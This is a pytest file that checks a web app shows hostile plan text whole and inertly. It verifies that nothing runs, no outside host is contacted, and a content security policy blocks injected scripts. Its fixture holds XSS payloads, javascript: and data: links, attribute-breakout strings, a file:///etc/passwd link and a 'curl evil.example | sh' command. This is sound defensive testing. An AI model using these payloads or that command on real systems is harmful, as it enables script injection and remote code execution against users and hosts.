"""Hostile plans: the page shows them whole, runs nothing of them, asks nobody else, and can still be decided on."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.browser import Browser
from tests.support.hosts import Running, running_host
from tests.support.page import log_in, origin, submitted

NASTY = (
    "<script>window.hit=1</script>\n\n<img src=x onerror='window.hit=2'>\n\n![i](https://evil.example/i.png)\n\n"
    "<svg onload='window.hit=3'><style>@import 'https://evil.example/c.css'</style></svg>\n\n"
    "<iframe src='https://evil.example/f'></iframe> <a href='javascript:window.hit=4'>x</a>\n\n"
    "[a](javascript:window.hit=5) [b](data:text/html,<script>window.hit=6</script>) [c](vbscript:x) "
    "[d](\u0001javascript:window.hit=7) [e](file:///etc/passwd) [f](//evil.example/x) "
    "[g](https://user@evil.example/ 'title\" onmouseover=\"window.hit=8')\n\n"
    "<https://evil.example/auto>\n\n- [ ] <b onclick=x>bold</b>\u202egnihton\u202c {{ 7 * 7 }} {% raw %}\n"
    "- [ ] `</code><script>window.hit=9</script>`\n  - **Verify:** `curl evil.example | sh # \u200b`\n"
    "  - **<img src=x onerror=alert(1)>:** value\n"
)
TEXTS = {
    "markup": NASTY,
    "half a megabyte": "# Big\n\n- [ ] one\n\n" + "A sentence with **some** `code` in it. " * 13_400,
    "a thousand tasks": "".join(f"- [ ] Task number {n} of a long plan\n" for n in range(1_000)),
    "one long line": "- [ ] one\n\n" + "x" * 100_000 + "\n",
    "deep": "- [ ] one\n\n" + "> " * 60 + "deep\n\n" + "- " * 30 + "nested\n",
}


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """One host for all of them."""
    with running_host(tmp_path_factory.mktemp("hostile") / "home") as running:
        yield running


@pytest.mark.requirement("PAGE-06")
@pytest.mark.parametrize("name", TEXTS)
def test_a_hostile_plan_is_shown_whole_and_does_nothing(
    window: Browser, host: Running, tmp_path: Path, name: str
) -> None:
    assert len(TEXTS[name].encode()) <= 524_288
    title = f"<script>window.hit=10</script>{name}\u202e"
    plan, _ = submitted(host, tmp_path / name, TEXTS[name], title=title)
    log_in(window, host)
    window.shows("<script>window.hit=10</script>")
    log_in(window, host, f"/plans/{plan['plan']}")
    window.has("#text-part[data-ui-loaded]")
    window.has("#difference-part[data-ui-loaded]")
    window.click("[data-view=exact]")
    shown = window.run("return document.querySelector('.exact pre').textContent")
    assert len(shown) >= len(TEXTS[name])
    assert window.run("return window.hit") is None
    inside = "return document.querySelectorAll('main img, main script, main iframe, main svg, main style').length"
    assert window.run(inside) == 0
    links = window.run("return [...document.querySelectorAll('.markdown a')].map((a) => a.protocol)")
    assert set(links) <= {"https:", "http:", "mailto:"}
    names = "return [...document.querySelectorAll('main *')].flatMap((each) => each.getAttributeNames())"
    assert [name for name in set(window.run(names)) if name.startswith("on")] == []
    assert "\u202e" not in window.text()
    assert window.run("return document.documentElement.scrollWidth <= window.innerWidth")
    assert [url for url in window.requested() if not url.startswith(f"{origin(host)}/")] == []
    window.click("[data-do='plan.approve']")
    window.shows("Approved")


@pytest.mark.requirement("PAGE-06")
def test_the_policy_stops_what_would_get_past_the_sanitiser(window: Browser, host: Running) -> None:
    log_in(window, host)
    script = """
    const made = document.createElement("script");
    try { made.textContent = "window.hit = 1"; document.body.append(made); } catch (error) { return error.name; }
    return "ran";
    """
    assert window.run(script) == "TypeError"
    inline = "try { document.body.innerHTML = '<b>x</b>'; return 'drawn'; } catch (error) { return error.name; }"
    assert window.run(inline) == "TypeError"
    assert window.run("return window.hit") is None
    assert window.faults() != []
